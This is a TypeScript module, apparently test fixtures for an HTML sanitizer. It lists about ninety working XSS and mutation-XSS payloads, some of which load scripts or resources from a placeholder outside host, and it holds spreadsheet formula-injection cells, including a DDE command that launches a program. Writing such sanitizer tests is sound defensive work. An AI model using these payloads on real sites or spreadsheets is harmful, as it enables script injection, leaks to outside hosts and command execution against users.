/**
 * What hostile pages hold: each entry tries to run a script or to reach somebody else, by another way.
 *
 * `RUN` runs a script that raises a dialog, marks the page and asks `ELSEWHERE` for something; `ELSEWHERE` is the address
 * of somebody else. Entries that swallow what follows them stand alone on a page.
 */
export interface Hostile {
  readonly html: string;
  readonly isAlone?: true;
}

const RUN = "alert(1);top.document.body.id=`owned`;new Image().src=`ELSEWHERE`";
const CODE = RUN.replaceAll("`", "&#96;");
const alone = (html: string): Hostile => ({ html, isAlone: true });
const beside = (html: string): Hostile => ({ html });

export const HOSTILE: readonly Hostile[] = [
  // scripts and handlers
  beside(`<script>${RUN}</script>`),
  beside(`<ScRiPt src="ELSEWHERE"></sCrIpT>`),
  beside(`<script type="module">${RUN}</script>`),
  beside(`<img src=x onerror="${CODE}">`),
  beside(`<IMG """><SCRIPT>${RUN}</SCRIPT>">`),
  beside(`<img/src="x"/onerror=${CODE}>`),
  beside(`<img src=x:x onerror&#61;"${CODE}" oNeRrOr="${CODE}">`),
  beside(`<svg onload="${CODE}">`),
  beside(`<svg><script>${CODE}</script></svg>`),
  beside(`<svg><script href="data:text/javascript,${encodeURIComponent(RUN)}"></script></svg>`),
  beside(`<svg><animate onbegin="${CODE}" attributeName=x dur=1s></svg>`),
  beside(`<svg><a><animate attributeName=href values="javascript:${CODE}"/><text y=20>here</text></a></svg>`),
  beside(`<svg><set attributeName=onmouseover to="${CODE}"></svg>`),
  beside(
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  ),
  beside(`<svg><image href="ELSEWHERE" xlink:href="ELSEWHERE"/></svg>`),
  beside(`<svg><foreignObject><body onload="${CODE}"></body></foreignObject></svg>`),
  beside(`<svg><filter id=f><feImage href="ELSEWHERE"/></filter><rect filter="url(ELSEWHERE#f)" width=9 height=9 /></svg>`),
  beside(`<math><mtext><table><mglyph><style><img src=x onerror="${CODE}"></style></mglyph></table></mtext></math>`),
  beside(`<math href="javascript:${CODE}">here</math>`),
  beside(`<body onload="${CODE}" onpageshow="${CODE}" background="ELSEWHERE">`),
  beside(`<input autofocus onfocus="${CODE}">`),
  beside(`<select autofocus onfocus="${CODE}"></select>`),
  beside(`<details open ontoggle="${CODE}"><summary>here</summary></details>`),
  beside(`<div popover id=p onbeforetoggle="${CODE}">x</div><button popovertarget=p>here</button>`),
  beside(
    `<video autoplay src="ELSEWHERE" poster="ELSEWHERE" onerror="${CODE}"><source src="ELSEWHERE" onerror="${CODE}"></video>`,
  ),
  beside(`<audio src="ELSEWHERE" autoplay onerror="${CODE}"></audio>`),
  beside(`<marquee onstart="${CODE}">here</marquee>`),
  beside(`<div style="animation:x 1s" onanimationstart="${CODE}"></div><style>@keyframes x{}</style>`),
  beside(`<div style="transition:color .1s" ontransitionend="${CODE}" tabindex=0 onfocus="${CODE}">here</div>`),
  beside(`<p onclick="${CODE}" onpointerenter="${CODE}" onmouseover="${CODE}">here</p>`),
  // addresses
  beside(`<a href="javascript:${CODE}">here</a>`),
  beside(`<a href=" &#1; java&#9;script&colon;${CODE}">here</a>`),
  beside(`<a href="JaVaScRiPt:${CODE}" target=_blank>here</a>`),
  beside(`<a href="data:text/html,<script>alert(1)</script>">here</a>`),
  beside(`<a href="vbscript:msgbox(1)">here</a>`),
  beside(`<a href="ELSEWHERE" ping="ELSEWHERE" target=_top>here</a>`),
  beside(`<map name=m><area shape=default href="javascript:${CODE}"></map><img usemap=#m width=9 height=9>`),
  beside(`<form action="ELSEWHERE" method=post><input name=a value=b><button>here</button></form>`),
  beside(`<form><button formaction="javascript:${CODE}">here</button></form>`),
  beside(`<form id=f action="javascript:${CODE}"></form><input type=submit form=f><input type=image src="ELSEWHERE" form=f>`),
  beside(`<isindex action="javascript:${CODE}" type=submit>`),
  beside(`<img src="ELSEWHERE" srcset="ELSEWHERE 2x" loading=eager>`),
  beside(`<picture><source srcset="ELSEWHERE"><img></picture>`),
  beside(`<table background="ELSEWHERE"><td background="ELSEWHERE">x</td></table>`),
  beside(`<input type=image src="ELSEWHERE">`),
  // other documents
  beside(`<iframe src="javascript:${CODE}"></iframe>`),
  beside(`<iframe srcdoc="<script>alert(1)</script><img src=ELSEWHERE>"></iframe>`),
  beside(`<iframe src="ELSEWHERE"></iframe>`),
  beside(`<object data="javascript:${CODE}"></object>`),
  beside(`<object data="ELSEWHERE" type="text/html"><embed src="ELSEWHERE"></object>`),
  beside(`<embed src="data:text/html,<script>alert(1)</script>">`),
  beside(`<portal src="ELSEWHERE"></portal><fencedframe src="ELSEWHERE"></fencedframe>`),
  beside(`<applet code=x archive="ELSEWHERE"></applet><bgsound src="ELSEWHERE"><layer src="ELSEWHERE"></layer>`),
  // heads
  beside(`<meta http-equiv="refresh" content="0;url=ELSEWHERE">`),
  beside(`<META HTTP-EQUIV=refresh CONTENT="0;URL=javascript:${CODE}">`),
  beside(`<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">`),
  beside(`<meta http-equiv="Set-Cookie" content="bartree_session=x">`),
  beside(`<base href="ELSEWHERE/"><img src="relative.png">`),
  beside(`<link rel=stylesheet href="ELSEWHERE"><link rel="prefetch" href="ELSEWHERE"><link rel=preconnect href="ELSEWHERE">`),
  beside(`<link rel="import" href="ELSEWHERE"><link rel="manifest" href="ELSEWHERE"><link rel="icon" href="ELSEWHERE">`),
  beside(`<link rel="preload" as="script" href="ELSEWHERE"><link rel=modulepreload href="ELSEWHERE">`),
  // styles
  beside(`<style>@import "ELSEWHERE"; @import url(ELSEWHERE); body { background: url(ELSEWHERE) }</style>`),
  beside(
    `<style>@font-face { font-family: h; src: url('ELSEWHERE') } p { font-family: h; list-style-image: url( "ELSEWHERE" ) }</style>`,
  ),
  beside(`<style>p::before { content: u\\72l(ELSEWHERE) } p { cursor: image-set("ELSEWHERE" 1x), auto }</style>`),
  beside(`<style>@im\\70ort "ELSEWHERE"; p { background: -webkit-image-set(url(ELSEWHERE) 1x) }</style>`),
  beside(`<p style="background-image: url(&quot;ELSEWHERE&quot;); border-image-source: u\\rl(ELSEWHERE)">here</p>`),
  beside(`<div style="width: expression(alert(1)); behavior: url(ELSEWHERE); -moz-binding: url(ELSEWHERE)">here</div>`),
  beside(`<style>html { position: fixed; inset: 0; z-index: 99999 } </style><div style="position:fixed;inset:0">here</div>`),
  // what a second parser reads otherwise
  alone(`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>`),
  alone(`<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`),
  alone(`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`),
  beside(`<template><script>${RUN}</script><img src=x onerror="${CODE}"></template>`),
  beside(`<div><template shadowrootmode=open><script>${RUN}</script><img src=ELSEWHERE onerror="${CODE}"></template></div>`),
  beside(`<a title="&quot;><img src=x onerror=alert(1)>">here</a>`),
  beside(`<p>&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;</p>`),
  alone(`<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>`),
  alone(`<iframe><p title="</iframe><svg/onload=alert(1)>"></iframe>`),
  alone(`<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`),
  alone(`<select><style></select><svg/onload=alert(1)></style></select>`),
  alone(`<!--><img src=x onerror="${CODE}">-->`),
  alone(`<!-- --!><img src=x onerror="${CODE}"> -->`),
  alone(`<title></title/><img src=x onerror="${CODE}"><title>`),
  alone(`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`),
  alone(`<style><!--</style><script>${RUN}//--></script>`),
  alone(`<script><!--<script></script><img src=x onerror="${CODE}">`),
  alone(`<frameset onload="${CODE}"><frame src="ELSEWHERE"></frameset>`),
  alone(`<plaintext><script>${RUN}</script>`),
  alone(`<![CDATA[><script>${RUN}</script>]]>`),
  alone(`<?xml-stylesheet href="javascript:${CODE}"?><img src=x onerror="${CODE}">`),
];

/** Cells that a spreadsheet takes for something to do. */
export const FORMULAS: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("ELSEWHERE","here")',
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "＝1+1",
];

export const reaching = (text: string, elsewhere: string): string => text.replaceAll("ELSEWHERE", elsewhere);
